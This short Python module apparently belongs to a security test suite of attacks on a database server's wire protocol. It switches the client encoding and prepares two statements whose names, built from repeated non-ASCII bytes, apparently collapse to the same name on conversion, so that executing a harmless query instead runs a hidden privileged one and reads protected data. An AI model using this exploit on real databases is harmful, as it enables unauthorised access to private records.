"""Gives a statement a name that is shortened to that of a harmless one when it is converted."""

from attacks.frames import SYNC, ask, bind, close, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        one, other = b"\xe9" * 40 + b"1", b"\xe9" * 40 + b"2"
        ask(client, query(b"SET client_encoding = 'LATIN1'"))
        ask(client, parse(b"SELECT name FROM customer", one), SYNC)
        ask(client, close(b"S", other), parse(b"SELECT account_unseen(1)", other), SYNC)
        return ask(client, bind(one), execute(), SYNC)
